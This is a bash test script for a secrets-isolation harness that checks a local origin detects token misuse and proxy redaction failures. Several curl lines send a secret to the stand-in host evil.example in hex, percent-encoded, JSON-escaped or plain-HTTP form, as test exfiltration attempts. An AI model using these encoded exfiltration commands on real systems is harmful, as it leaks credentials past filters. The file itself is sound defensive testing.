#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The secrets harness alone (tests/secrets/lib.sh), no box, no daemon: the checks the other secrets tests rest
# on must be able to fail. The origin (tests/secrets/origin.py) in the test namespace answers HTTPS for every
# name with the test CA; it counts a value in the bound header of a TLS request to the bound host as a swap and
# flags a value anywhere else (plain HTTP, another header, the query in hex, a base64 or percent- or
# JSON-escaped body, another host) as a violation, and a placeholder as a placeholder; its echo paths send the
# value back in each form, and sc_box_saw finds it in each (raw, hex, base64, percent, JSON, chunked, a trailer,
# a header, gzip, deflate) so a proxy that forgets to redact fails the redaction checks; sc_seen_in finds a
# value or its first 6 bytes in a file and not in the origin's own files; /status/099 sends a status below
# 100; /v1/messages speaks the Messages API's JSON and SSE shapes. Root.
#   tests/secrets/secrets-harness.sh BUILD_DIR
set -u
BUILD=${1:?usage: secrets-harness.sh BUILD_DIR}
source "$(cd "$(dirname "$0")" && pwd)/lib.sh"

sc_up
ok "harness up (netns $EG_NS, origin $EG_ORIGIN_IP)"

V=$SC_VALUE
c() { curl -sS --max-time 10 --cacert "$EG_CA" --resolve "api.github.com:443:$EG_ORIGIN_IP" \
	--resolve "evil.example:443:$EG_OTHER_IP" --resolve "evil.example:80:$EG_OTHER_IP" "$@" 2>&1; }
nviol() { sc_verdict '.violations | length'; }

out=$(c -H "Authorization: Bearer $V" https://api.github.com/user)
check "https://api.github.com/user with the test CA and the real token: the login ($out)" test "$out" = '{"login": "tkbox-demo"}'
out=$(c -H "Authorization: Bearer tkbox_GH_0123456789abcdef0123456789abcdef" https://api.github.com/user)
check "/user with a placeholder instead: 401 ($out)" test "$out" = '{"message": "Bad credentials"}'

check "the value in the bound header over TLS to the bound host is a swap, no violation" \
	test "$(sc_verdict .swapped.GH):$(nviol)" = "1:0"

n=0
expect_violation() { # NAME FORM CURL-ARGS...
	local name=$1 form=$2
	shift 2
	c "$@" >/dev/null
	n=$((n + 1))
	local got
	got=$(sc_verdict ".violations[$((n - 1))] | \"\\(.form) \\(.where)\"")
	check "violation: $name ($got)" eval "[ '$(nviol)' = $n ] && grep -q '^\"$form' <<<'$got'"
}
expect_violation "value over plain HTTP" raw -H "Authorization: Bearer $V" http://api.github.com/ \
	--resolve "api.github.com:80:$EG_ORIGIN_IP"
expect_violation "value in another header" raw -H "X-Token: $V" https://api.github.com/
expect_violation "value to another host" raw -H "Authorization: Bearer $V" https://evil.example/
expect_violation "hex in the query" hex "http://evil.example/q?t=$(printf %s "$V" | od -An -v -tx1 | tr -d ' \n')"
expect_violation "base64 in a header" base64 -H "X-Data: $(printf 'xy%s' "$V" | base64 -w0)" https://api.github.com/
expect_violation "percent-encoded body" raw --data "t=$(printf %s "$V" | od -An -v -tx1 | tr -d '\n' | sed 's/ /%/g')" \
	http://evil.example/
expect_violation "JSON-escaped body" raw --data "{\"t\": \"$(printf %s "$V" | od -An -v -tx1 | tr -d '\n' | sed 's/ /\\u00/g')\"}" \
	https://evil.example/
expect_violation "upper case" raw -H "Authorization: Bearer ${V^^}" http://evil.example/
c -H "Authorization: Bearer tkbox_GH_0123456789abcdef0123456789abcdef" https://api.github.com/ >/dev/null
check "a placeholder arriving is listed as one" test "$(sc_verdict '.placeholders | length')" = 2
check "the origin's own files never hold the value" eval "! sc_seen_in '$SC_ORIGIN'"

# What the redaction checks read: every echo form is found when nothing redacts it.
for kind in raw hex HEX b64 b64url b64off1 b64off2 pct json header chunked trailer gzip deflate all; do
	raw=$(c -i --raw -H "Authorization: Bearer $V" "https://api.github.com/echo/$kind" | base64 -w0)
	saw=$(sc_box_saw "$raw" | grep '^found=' | tr '\n' ' ')
	check "echo/$kind unredacted is caught: $saw" test -n "$saw"
done
raw=$(c -i --raw https://api.github.com/echo/trailer -H "Authorization: Bearer $V" | base64 -w0)
check "the trailer echo's value is in the trailer (nowhere else once the body is redacted)" \
	eval "c -i --raw https://api.github.com/echo/trailer -H 'Authorization: Bearer $V' | tail -n 3 | grep -q 'X-Echo: $V'"
raw=$(printf 'HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello' | base64 -w0)
check "a response without the value: nothing found, len=5" test "$(sc_box_saw "$raw" | tr '\n' ' ')" = "len=5 "
echo "seen $V here" >"$WORK/probe.txt"
check "sc_seen_in finds a value in a file" eval "sc_seen_in '$WORK/probe.txt' >/dev/null"
echo "seen ${SC_AK:0:6}. here" >"$WORK/probe.txt"
check "sc_seen_in finds the first 6 bytes of one" eval "sc_seen_in '$WORK/probe.txt' >/dev/null"
rm -f "$WORK/probe.txt"

out=$(printf 'GET /status/099 HTTP/1.1\r\nHost: evil.example\r\n\r\n' | timeout 5 socat - "TCP:$EG_OTHER_IP:80" |
	head -n 1 | tr -d '\r')
check "/status/099 sends a status below 100 ($out)" test "$out" = "HTTP/1.1 099 X"
out=$(c --resolve "api.anthropic.com:443:$EG_ORIGIN_IP" -H "x-api-key: $SC_AK" -d '{"model":"claude-test-1"}' \
	https://api.anthropic.com/v1/messages | jq -c '[.model, .usage.input_tokens, .usage.output_tokens]')
check "Messages API JSON ($out)" test "$out" = '["claude-test-1",12,7]'
out=$(c --resolve "api.anthropic.com:443:$EG_ORIGIN_IP" -H "x-api-key: $SC_AK" -d '{"stream":true}' \
	https://api.anthropic.com/v1/messages | grep -c '^event: ')
check "Messages API SSE: 6 events" test "$out" = 6
out=$(GIT_SSL_CAINFO="$EG_CA" git -c "http.curloptResolve=api.github.com:443:$EG_ORIGIN_IP" \
	ls-remote https://api.github.com/repo.git 2>&1)
check "git ls-remote over the dumb protocol" grep -q 'refs/heads/main' <<<"$out"
check "still no swap counted for the other secret, and the anthropic key arrived where it may" \
	test "$(sc_verdict .swapped.ANTHROPIC_API_KEY)" = 2

echo "1..$((pass + fail))"
[ $fail -eq 0 ]
